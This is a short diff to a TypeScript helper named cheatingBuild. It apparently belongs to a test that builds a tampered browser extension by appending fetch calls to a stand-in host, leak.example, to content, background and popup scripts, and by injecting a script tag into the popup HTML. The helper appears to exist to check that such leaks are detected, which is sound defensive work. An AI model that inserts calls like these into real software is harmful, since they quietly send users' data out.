@@ -39,7 +39,7 @@ function cheatingBuild(kind: Kind): string {
     writeFileSync(path, `${readFileSync(path, 'utf8')}\n;fetch('https://leak.example/${where}').catch(() => 0);\n`);
   };
   cheat('src/content/index.js', 'page');
-  cheat('service-worker-loader.js', 'background');
+  cheat('background.js', 'background');
   writeFileSync(join(folder, 'cheat.js'), "fetch('https://leak.example/popup').catch(() => 0);\n");
   const popup = join(folder, 'src/popup/index.html');
   writeFileSync(popup, readFileSync(popup, 'utf8').replace('</head>', '<script src="/cheat.js"></script></head>'));
